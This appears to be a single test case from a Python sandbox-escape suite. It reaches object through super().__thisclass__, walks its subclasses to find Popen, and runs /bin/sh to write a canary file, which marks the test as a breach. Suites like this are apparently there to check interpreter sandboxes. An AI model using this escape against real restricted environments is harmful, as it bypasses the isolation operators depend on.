# id: 583
# name: super_without_arguments
# category: interpreter
# technique: super(C, C).__getattribute__ and super().__thisclass__
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
class C:
    pass
s = super(C, C())
b = s.__thisclass__.__base__
for c in b.__subclasses__():
    if c.__name__ == 'Popen':
        c(['/bin/sh', '-c', 'echo breach > ' + CANARY_FILE]).wait()
